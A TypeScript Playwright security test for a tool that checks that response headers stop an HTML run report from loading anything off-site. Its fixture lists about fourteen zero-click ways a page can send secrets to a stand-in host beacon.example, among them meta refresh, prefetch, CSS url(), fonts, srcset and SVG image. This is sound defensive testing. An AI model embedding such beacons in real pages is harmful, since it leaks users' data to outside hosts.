import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runFileHeaders } from '../../src/run-tools/index.js';

/** A report as a model could write it: every way a page loads something without a click. */
const REPORT = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="1;url=https://beacon.example/refresh?secret=0">
<link rel="prefetch" href="https://beacon.example/prefetch?secret=1">
<link rel="preload" as="image" href="https://beacon.example/preload?secret=2">
<link rel="stylesheet" href="https://beacon.example/style.css?secret=3">
<link rel="icon" href="https://beacon.example/icon?secret=4">
<style>
@import url(https://beacon.example/import.css?secret=5);
body { background: url(https://beacon.example/background?secret=6); }
@font-face { font-family: x; src: url(https://beacon.example/font?secret=7); }
p { font-family: x; }
</style>
</head><body>
<p>Quarterly report</p>
<img src="https://beacon.example/img?secret=8" alt="">
<img srcset="https://beacon.example/srcset?secret=9 1x" alt="">
<div style="background-image: url(https://beacon.example/inline?secret=10)">chart</div>
<video poster="https://beacon.example/poster?secret=11" src="https://beacon.example/video?secret=12"></video>
<svg><image href="https://beacon.example/svg-image?secret=13" width="10" height="10"/></svg>
<img src="figure.png" alt="a figure beside the report">
</body></html>`;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

let server: Server;
let origin: string;
let browser: Browser;

beforeAll(async () => {
  // The run file routes' headers, on a loopback server: the browser sees exactly what a report gets.
  server = createServer((request, response) => {
    const file = request.url === '/run/figure.png' ? 'figure.png' : 'report.html';
    const body = file === 'figure.png' ? PNG : Buffer.from(REPORT);
    response.writeHead(200, runFileHeaders(file, body.length)).end(body);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu'],
  });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((done) => server.close(done));
});

describe('a run report in Chromium (SEC10)', () => {
  it('SEC10 loads its own figure and nothing from another site: no img, CSS url(), font, prefetch, preload or refresh', async () => {
    const context = await browser.newContext();
    const beacons: string[] = [];
    // Any request to the "remote" host is answered here (there is no internet) and recorded.
    await context.route('https://beacon.example/**', (route) => {
      beacons.push(route.request().url());
      return route.fulfill({ status: 200, body: '' });
    });
    const local: string[] = [];
    const page = await context.newPage();
    page.on('request', (request) => {
      if (request.url().startsWith(origin)) local.push(new URL(request.url()).pathname);
    });
    await page.goto(`${origin}/run/report.html`, { waitUntil: 'load' });
    // Long enough for the refresh (1 s) and idle-time prefetches to have started.
    await page.waitForTimeout(2_000);
    expect(beacons).toEqual([]);
    expect(local).toContain('/run/figure.png');
    expect(page.url()).toBe(`${origin}/run/report.html`);
    await context.close();
  });
});
